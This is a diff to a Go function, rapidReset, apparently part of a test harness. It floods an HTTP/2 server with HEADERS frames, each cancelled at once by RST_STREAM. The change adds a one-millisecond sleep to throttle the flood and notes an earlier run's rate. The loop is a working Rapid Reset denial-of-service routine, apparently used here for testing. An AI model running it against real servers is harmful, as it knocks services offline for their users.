@@ -191,10 +191,15 @@ func rapidReset(ctx context.Context, addr string, conns int) string {
 				for id := uint32(1); ctx.Err() == nil && id < 1<<30; id += 2 {
 					fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
 					fr.WriteRSTStream(id, http2.ErrCodeCancel)
-					if id%64 == 1 {
+					if id%128 == 1 {
 						if w.Flush() != nil {
 							break
 						}
+						// At most 64 pairs a millisecond per connection
+						// (the adversarial run sent 47,000 a second in all):
+						// the attacker shares this test process, and
+						// the probe watch with it.
+						time.Sleep(time.Millisecond)
 					}
 					pairs.Add(1)
 				}
